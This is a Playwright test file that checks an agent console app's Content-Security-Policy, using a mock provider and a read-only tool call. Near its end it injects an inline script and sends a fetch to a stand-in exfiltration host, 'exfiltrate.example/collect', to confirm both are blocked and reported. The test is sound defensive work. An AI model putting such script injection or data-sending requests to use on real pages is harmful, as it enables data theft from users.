import { expect, test } from '@playwright/test';
import { ConsolePage } from './pages/console-page.ts';
import { SettingsPage } from './pages/settings-page.ts';
import { startMockProviderServer } from './support/mock-provider-server.ts';
import { policyViolations, watchPolicyViolations } from './support/policy-violations.ts';

test('the built app runs under its Content-Security-Policy with no violation, and the policy is enforced', async ({
  page,
}, testInfo) => {
  const messages = await watchPolicyViolations(page);
  const server = await startMockProviderServer([
    {
      text: 'Looking her up.',
      calls: [{ id: 'call_r', name: 'read_record', args: { model: 'customer', id: 17 } }],
    },
    { text: 'Dana Whitfield, customer 17.' },
  ]);
  try {
    const console = new ConsolePage(page);
    await console.open('?fixture=support');
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(policy).toContain("script-src 'self'");
    expect(policy).not.toContain("'unsafe-inline'");
    expect(policy).toContain("object-src 'none'");
    expect(policy).toContain("worker-src 'self'");
    expect(policy).toMatch(/connect-src 'self' [^;]*http:\/\/127\.0\.0\.1:\*/);

    // The review form validates with compiled schemas; the meter counts in its worker.
    await expect(console.reviewCard('issue_refund', 'pending')).toBeVisible();
    await console.argument('amount').fill('150');
    await expect(console.review.getByText('edited').first()).toBeVisible();
    await console.settledContextTotal();
    for (const screen of ['Captures', 'Rules', 'Audit log', 'Console']) {
      await page.getByRole('navigation', { name: 'Screens' }).getByRole('button', { name: screen }).click();
    }

    // A provider on this machine is allowed: the whole turn streams, the read-only call runs, the answer shows.
    await console.open();
    await new SettingsPage(page).connect({
      provider: 'openai-chat',
      baseUrl: `${server.origin}/v1`,
      apiKey: 'sk-csp-journey-0000',
      model: 'mock-model',
    });
    await page.getByLabel('Message to the agent').fill('Who is customer 17?');
    await page.getByRole('button', { name: 'Send', exact: true }).click();
    await expect(console.timeline.getByText('Dana Whitfield, customer 17.')).toBeVisible();
    await console.screenshot(testInfo, 'under-policy');
    expect(await policyViolations(page)).toEqual([]);
    expect(messages).toEqual([]);

    // The policy is in force: a script injected into the page does not run, a request elsewhere is refused,
    // and both are reported, so the empty lists above mean something.
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true;';
      document.body.append(script);
      const fetched = await fetch('https://exfiltrate.example/collect').then(
        () => 'sent',
        () => 'refused',
      );
      return { injected: (window as { __injected?: boolean }).__injected === true, fetched };
    });
    expect(outcome).toEqual({ injected: false, fetched: 'refused' });
    // Violation reports are events that arrive after the refusal: wait for both.
    await expect
      .poll(async () => (await policyViolations(page)).map((violation) => violation.directive).sort())
      .toEqual(['connect-src', 'script-src-elem']);
  } finally {
    await server.close();
  }
});
